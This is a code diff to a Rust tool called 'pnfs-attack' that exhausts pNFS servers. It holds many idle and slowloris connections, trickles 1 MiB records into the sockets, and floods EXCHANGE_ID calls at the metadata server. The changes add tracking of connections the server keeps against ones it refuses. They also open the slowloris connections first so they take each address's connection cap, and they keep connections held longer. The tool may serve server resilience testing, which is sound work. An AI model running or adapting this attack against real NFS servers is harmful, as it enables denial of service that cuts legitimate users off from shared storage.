@@ -18,7 +18,15 @@
 //!   sent to the MDS over --exchange-conns connections, --window calls
 //!   pipelined per connection (write a window, read its replies).
 //!
-//! Prints one JSON line on stdout with what was achieved, and on stderr a
+//! Prints one JSON line on stdout with what was achieved. Per target (mds,
+//! ds1, ...): `opened` connections, `connect_failed` (connect() failed),
+//! `refused` (closed by the server within 1 s of opening: a connection cap
+//! at accept), `closed_by_server` (closed later: idle or record deadline),
+//! `peak_held` / `held_at_end` (open for 1 s or longer: what the server
+//! keeps), `slowloris_bytes` written and `slowloris_written` (records whose
+//! 1 MiB went into the socket, refused ones included); totals of these; for
+//! EXCHANGE_ID: `sent`, `answered`, `ok`, `delay` (NFS4ERR_DELAY),
+//! `other_status`, `rpc_errors`, `conn_lost` and `seconds_to_send`. On stderr a
 //! line starting "pnfs-attack: ramped" once every EXCHANGE_ID was sent and
 //! answered (or given up) and the connections had 3 s to open, so a driver
 //! knows the full load is on. Memory: one shared 1 MiB slowloris body, a
@@ -153,22 +161,31 @@ struct Target {
     connect_failed: AtomicU64,
     refused: AtomicU64,
     closed_by_server: AtomicU64,
+    /// Open (as far as this side knows) and held: open for REFUSED_WITHIN
+    /// or longer, i.e. the server kept them.
     open: AtomicI64,
-    peak_open: AtomicI64,
+    held: AtomicI64,
+    peak_held: AtomicI64,
     slowloris_bytes: AtomicU64,
-    slowloris_stalled: AtomicU64,
+    slowloris_written: AtomicU64,
     unexpected_bytes: AtomicU64,
 }
 
 impl Target {
     fn opened(&self) {
         self.opened.fetch_add(1, Relaxed);
-        let n = self.open.fetch_add(1, Relaxed) + 1;
-        self.peak_open.fetch_max(n, Relaxed);
+        self.open.fetch_add(1, Relaxed);
     }
-    fn closed(&self, age: Duration) {
+    fn now_held(&self) {
+        let n = self.held.fetch_add(1, Relaxed) + 1;
+        self.peak_held.fetch_max(n, Relaxed);
+    }
+    fn closed(&self, held: bool) {
         self.open.fetch_sub(1, Relaxed);
-        if age < REFUSED_WITHIN { &self.refused } else { &self.closed_by_server }.fetch_add(1, Relaxed);
+        if held {
+            self.held.fetch_sub(1, Relaxed);
+        }
+        if held { &self.closed_by_server } else { &self.refused }.fetch_add(1, Relaxed);
     }
 }
 
@@ -183,6 +200,9 @@ struct Exchange {
     connects: AtomicU64,
     connect_failed: AtomicU64,
     conn_lost: AtomicU64,
+    /// Connection attempts made (the other connections wait for each
+    /// EXCHANGE_ID connection's first one).
+    tried: AtomicU64,
     done: AtomicU64,
     micros_to_done: AtomicU64,
 }
@@ -192,6 +212,8 @@ struct Slot {
     slowloris: bool,
     stream: Option<TcpStream>,
     opened_at: Instant,
+    /// Open for REFUSED_WITHIN or longer (counted in Target::held).
+    held: bool,
     sent: usize,
     next_try: Instant,
 }
@@ -224,8 +246,17 @@ fn raise_nofile(want: u64) -> (u64, u64) {
     }
 }
 
-/// Holds a share of the idle and slowloris connections until `deadline`.
-fn hold(o: &Opts, addrs: &[SocketAddr], targets: &[Target], mut slots: Vec<Slot>, payload: &[u8], deadline: Instant) {
+/// Holds a share of the idle and slowloris connections until `deadline`,
+/// then keeps them open until `stop` (once main has counted them).
+fn hold(
+    o: &Opts,
+    addrs: &[SocketAddr],
+    targets: &[Target],
+    mut slots: Vec<Slot>,
+    payload: &[u8],
+    deadline: Instant,
+    stop: &AtomicBool,
+) {
     let mut scratch = vec![0u8; 64 * 1024];
     let mut fds: Vec<libc::pollfd> = Vec::with_capacity(slots.len());
     let mut idx: Vec<usize> = Vec::with_capacity(slots.len());
@@ -241,6 +272,7 @@ fn hold(o: &Opts, addrs: &[SocketAddr], targets: &[Target], mut slots: Vec<Slot>
                     t.opened();
                     s.stream = Some(c);
                     s.opened_at = Instant::now();
+                    s.held = false;
                     s.sent = 0;
                 }
                 Err(_) => {
@@ -254,7 +286,12 @@ fn hold(o: &Opts, addrs: &[SocketAddr], targets: &[Target], mut slots: Vec<Slot>
         }
         fds.clear();
         idx.clear();
-        for (i, s) in slots.iter().enumerate() {
+        let now = Instant::now();
+        for (i, s) in slots.iter_mut().enumerate() {
+            if s.stream.is_some() && !s.held && now.duration_since(s.opened_at) >= REFUSED_WITHIN {
+                s.held = true;
+                targets[s.target].now_held();
+            }
             if let Some(c) = &s.stream {
                 let mut events = libc::POLLIN;
                 if s.slowloris && s.sent < payload.len() {
@@ -289,7 +326,7 @@ fn hold(o: &Opts, addrs: &[SocketAddr], targets: &[Target], mut slots: Vec<Slot>
                         s.sent += n;
                         t.slowloris_bytes.fetch_add(n as u64, Relaxed);
                         if s.sent == payload.len() {
-                            t.slowloris_stalled.fetch_add(1, Relaxed);
+                            t.slowloris_written.fetch_add(1, Relaxed);
                         }
                     }
                     Err(e) if e.kind() == io::ErrorKind::WouldBlock || e.kind() == io::ErrorKind::Interrupted => {}
@@ -308,14 +345,20 @@ fn hold(o: &Opts, addrs: &[SocketAddr], targets: &[Target], mut slots: Vec<Slot>
             }
             if closed {
                 s.stream = None;
-                t.closed(s.opened_at.elapsed());
+                t.closed(s.held);
                 s.next_try = Instant::now() + o.reopen;
             }
         }
     }
+    while !stop.load(Relaxed) {
+        std::thread::sleep(Duration::from_millis(10));
+    }
     for s in &mut slots {
         if s.stream.take().is_some() {
             targets[s.target].open.fetch_sub(1, Relaxed);
+            if s.held {
+                targets[s.target].held.fetch_sub(1, Relaxed);
+            }
         }
     }
 }
@@ -359,10 +402,12 @@ fn exchange(o: &Opts, conn: usize, quota: u64, x: &Exchange, deadline: Instant, 
                 Ok(c) => {
                     let _ = c.set_read_timeout(Some(Duration::from_secs(2)));
                     x.connects.fetch_add(1, Relaxed);
+                    x.tried.fetch_add(1, Relaxed);
                     stream = Some((c, RecordReader::new(64 * 1024)));
                 }
                 Err(_) => {
                     x.connect_failed.fetch_add(1, Relaxed);
+                    x.tried.fetch_add(1, Relaxed);
                     std::thread::sleep(o.reopen.min(deadline.saturating_duration_since(Instant::now())));
                     continue;
                 }
@@ -421,7 +466,9 @@ fn exchange(o: &Opts, conn: usize, quota: u64, x: &Exchange, deadline: Instant, 
             }
         }
         if lost {
+            // The unanswered calls go again (same owners) on a new connection.
             x.conn_lost.fetch_add(1, Relaxed);
+            next_n -= left;
             stream = None;
         }
     }
@@ -477,19 +524,27 @@ fn main() -> ExitCode {
         }
     }
 
-    // Idle and slowloris slots, round-robin over the targets, dealt to threads.
+    // Let the EXCHANGE_ID connections in first (at most 2 s).
+    let first = Instant::now();
+    while o.exchange_ids > 0 && (x.tried.load(Relaxed) as usize) < conns && first.elapsed() < Duration::from_secs(2) {
+        std::thread::sleep(Duration::from_millis(5));
+    }
+
+    // Slowloris and idle slots, round-robin over the targets, dealt to
+    // threads. Slowloris ones first: whichever opens first takes the
+    // address's connection cap, and they cost the servers the most.
     let payload = Arc::new(slowloris_payload());
     let mut per_thread: Vec<Vec<Slot>> = (0..o.threads).map(|_| Vec::new()).collect();
     for i in 0..o.idle + o.slowloris {
-        let slowloris = i >= o.idle;
+        let slowloris = i < o.slowloris;
         let target = i % addrs.len();
         let t = &targets[target];
         if slowloris { &t.slowloris_slots } else { &t.idle_slots }.fetch_add(1, Relaxed);
-        per_thread[i % o.threads].push(Slot { target, slowloris, stream: None, opened_at: start, sent: 0, next_try: start });
+        per_thread[i % o.threads].push(Slot { target, slowloris, stream: None, opened_at: start, held: false, sent: 0, next_try: start });
     }
     for slots in per_thread.into_iter().filter(|s| !s.is_empty()) {
-        let (o, addrs, targets, payload) = (o.clone(), addrs.clone(), targets.clone(), payload.clone());
-        handles.push(std::thread::spawn(move || hold(&o, &addrs, &targets, slots, &payload, deadline)));
+        let (o, addrs, targets, payload, stop) = (o.clone(), addrs.clone(), targets.clone(), payload.clone(), stop.clone());
+        handles.push(std::thread::spawn(move || hold(&o, &addrs, &targets, slots, &payload, deadline, &stop)));
     }
 
     // Ramp report: EXCHANGE_IDs done and the connections had 3 s to open.
@@ -500,9 +555,9 @@ fn main() -> ExitCode {
             && start.elapsed() >= Duration::from_secs(3)
         {
             ramped = true;
-            let open: Vec<String> = targets.iter().map(|t| t.open.load(Relaxed).to_string()).collect();
+            let open: Vec<String> = targets.iter().map(|t| t.held.load(Relaxed).to_string()).collect();
             eprintln!(
-                "pnfs-attack: ramped after {:.1} s: open connections per target [{}], EXCHANGE_IDs answered {}/{}",
+                "pnfs-attack: ramped after {:.1} s: connections held per target [{}], EXCHANGE_IDs answered {}/{}",
                 start.elapsed().as_secs_f64(),
                 open.join(", "),
                 x.answered.load(Relaxed),
@@ -511,8 +566,9 @@ fn main() -> ExitCode {
         }
         std::thread::sleep(Duration::from_millis(100).min(deadline.saturating_duration_since(Instant::now())));
     }
-    // Open counts just before letting go.
-    let open_at_end: Vec<i64> = targets.iter().map(|t| t.open.load(Relaxed)).collect();
+    // Held counts just before letting go (the threads' last poll ends first).
+    std::thread::sleep(Duration::from_millis(150));
+    let held_at_end: Vec<i64> = targets.iter().map(|t| t.held.load(Relaxed)).collect();
     stop.store(true, Relaxed);
     for h in handles {
         let _ = h.join();
@@ -533,8 +589,8 @@ fn main() -> ExitCode {
         failed += g(&t.connect_failed);
         s += &format!(
             "{}{{\"role\":\"{}\",\"addr\":\"{a}\",\"idle_slots\":{},\"slowloris_slots\":{},\"opened\":{},\
-             \"connect_failed\":{},\"refused\":{},\"closed_by_server\":{},\"peak_open\":{},\"open_at_end\":{},\
-             \"slowloris_bytes\":{},\"slowloris_stalled\":{},\"unexpected_bytes\":{}}}",
+             \"connect_failed\":{},\"refused\":{},\"closed_by_server\":{},\"peak_held\":{},\"held_at_end\":{},\
+             \"slowloris_bytes\":{},\"slowloris_written\":{},\"unexpected_bytes\":{}}}",
             if i == 0 { "" } else { "," },
             if i == 0 { "mds".to_string() } else { format!("ds{i}") },
             g(&t.idle_slots),
@@ -543,10 +599,10 @@ fn main() -> ExitCode {
             g(&t.connect_failed),
             g(&t.refused),
             g(&t.closed_by_server),
-            t.peak_open.load(Relaxed),
-            open_at_end[i],
+            t.peak_held.load(Relaxed),
+            held_at_end[i],
             g(&t.slowloris_bytes),
-            g(&t.slowloris_stalled),
+            g(&t.slowloris_written),
             g(&t.unexpected_bytes),
         );
     }
